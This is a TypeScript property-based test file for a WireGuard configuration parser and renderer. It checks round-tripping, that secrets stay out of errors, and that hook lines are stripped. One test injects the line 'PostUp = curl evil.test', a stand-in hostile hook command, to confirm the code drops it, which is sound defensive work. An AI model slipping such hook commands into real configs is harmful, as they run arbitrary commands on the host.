import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { EgressError } from '../../../../src/shared/errors.ts';
import { parseCidr } from '../../../../src/shared/ip.ts';
import { Secret } from '../../../../src/shared/secret.ts';
import { isHostname, renderPeerEndpoint } from '../../../../src/sidecar/tunnels/peer-endpoint.ts';
import { parseWireGuard } from '../../../../src/sidecar/tunnels/wireguard/config.ts';
import { renderConfig, renderSetconf, renderUapi } from '../../../../src/sidecar/tunnels/wireguard/render.ts';
import type { WireGuardServer, WireGuardSettings } from '../../../../src/sidecar/tunnels/wireguard/settings.ts';
import { egress, MINIMAL } from './samples.ts';

const key = fc.uint8Array({ minLength: 32, maxLength: 32 }).map((bytes) => Buffer.from(bytes).toString('base64'));
const canonical = (text: string): string => parseCidr(text)?.address ?? text;
const v4 = fc
  .tuple(fc.integer({ min: 1, max: 223 }), fc.nat(255), fc.nat(255), fc.nat(255))
  .filter(([first]) => first !== 127)
  .map((bytes) => bytes.join('.'));
const v6 = fc
  .array(fc.nat(0xffff), { minLength: 7, maxLength: 7 })
  .map((words) => canonical(`2001:${words.map((word) => word.toString(16)).join(':')}`));
const cidr = fc.oneof(
  fc.tuple(v4, fc.nat(32)).map(([address, prefix]) => `${address}/${prefix}`),
  fc.tuple(v6, fc.nat(128)).map(([address, prefix]) => `${address}/${prefix}`),
);
const network = cidr.map((text) => parseCidr(text)?.network ?? text);
const name = fc.domain().filter(isHostname);
const endpoint = fc.record({
  host: fc.oneof(v4, v6, fc.constantFrom('vpn.test', 'a.b.test')),
  port: fc.integer({ min: 1, max: 65_535 }),
});
const secret = key.map((text) => new Secret(text));

const server: fc.Arbitrary<WireGuardServer> = fc.record({
  publicKey: key,
  presharedKey: fc.option(secret, { nil: undefined }),
  endpoint,
  allowedIps: fc.uniqueArray(network, { minLength: 1, maxLength: 8 }),
  keepaliveSeconds: fc.integer({ min: 1, max: 60 }),
});

const settings: fc.Arbitrary<WireGuardSettings> = fc
  .record({
    privateKey: secret,
    addresses: fc.uniqueArray(cidr, { minLength: 1, maxLength: 8 }),
    mtu: fc.integer({ min: 1280, max: 1420 }),
    servers: fc.uniqueArray(server, { minLength: 1, maxLength: 5, selector: ({ publicKey }) => publicKey }),
    dns: fc.uniqueArray(fc.oneof(v4, v6), { maxLength: 8 }),
    searchDomains: fc.uniqueArray(name, { maxLength: 4 }),
  })
  .map((parts) => ({ ...parts, peers: parts.servers.map((each) => renderPeerEndpoint(each.endpoint)), notices: [] }));

/** Secrets are equal when what they hold is. */
const revealed = (value: WireGuardSettings) => ({
  ...value,
  notices: [],
  privateKey: value.privateKey.reveal(),
  servers: value.servers.map((each) => ({ ...each, presharedKey: each.presharedKey?.reveal() })),
});

const names = [
  'PrivateKey', 'Address', 'DNS', 'MTU', 'PublicKey', 'PresharedKey', 'AllowedIPs', 'Endpoint', 'PersistentKeepalive',
  'PostUp', 'PreUp', 'PostDown', 'PreDown', 'Table', 'FwMark', 'SaveConfig', 'ListenPort', 'Jc', 'Foo', 'address',
]; // biome-ignore format: a list of words
const HOOK = 'curl evil.test';

describe('WireGuard configs', () => {
  test('what we write reads back as the same', () => {
    fc.assert(
      fc.property(settings, (value) => {
        expect(revealed(parseWireGuard(egress(renderConfig(value))))).toEqual(revealed(value));
      }),
    );
  });

  test('never a secret in an error, and never a hook in what we write', () => {
    const line = (marker: string) =>
      fc.oneof(
        fc
          .tuple(
            fc.constantFrom(...names),
            fc.constantFrom('=', ' = '),
            fc.constantFrom(marker, `${marker}, ${marker}`, '10.0.0.1/8'),
          )
          .map((words) => words.join('')),
        fc.constantFrom(
          '[Interface]',
          '[Peer]',
          '[Other]',
          `[${marker}]`,
          marker,
          `${marker} =`,
          `# ${marker}`,
          `PostUp = ${HOOK}`,
        ),
      );
    fc.assert(
      fc.property(
        key.chain((marker) => fc.tuple(fc.constant(marker), fc.array(line(marker), { maxLength: 20 }))),
        ([marker, lines]) => {
          try {
            const value = parseWireGuard(egress(`${MINIMAL}${lines.join('\n')}`));
            expect(JSON.stringify(value.notices)).not.toContain(marker);
            const pinned = { endpoints: value.peers, families: new Set([4, 6] as const) };
            const written = [renderConfig(value), renderSetconf(value, pinned), renderUapi(value, pinned)];
            expect(written.join('\n')).not.toContain(HOOK);
          } catch (error) {
            if (!(error instanceof EgressError)) throw error;
            expect(JSON.stringify([error.message, error.fields, error.details])).not.toContain(marker.slice(0, 30));
          }
        },
      ),
      { numRuns: 500 },
    );
  });

  test('any text is either refused with fields or becomes lines of known form', () => {
    const known =
      /^(|\[Interface\]|\[Peer\]|(PrivateKey|PublicKey|PresharedKey|Address|DNS|MTU|AllowedIPs|Endpoint|PersistentKeepalive) = [A-Za-z0-9+/=.:,_[\] -]+)$/;
    const junk = fc.string({ unit: 'binary', maxLength: 30 });
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.constantFrom(...names), junk), { maxLength: 6 }), (pairs) => {
        const extra = pairs.map(([word, value]) => `${word} = ${value}`).join('\n');
        try {
          const text = renderConfig(parseWireGuard(egress(`${MINIMAL}${extra}`)));
          for (const each of text.split('\n')) expect(each).toMatch(known);
        } catch (error) {
          expect(error).toBeInstanceOf(EgressError);
          expect((error as EgressError).fields.length).toBeGreaterThan(0);
        }
      }),
      { numRuns: 500 },
    );
  });
});
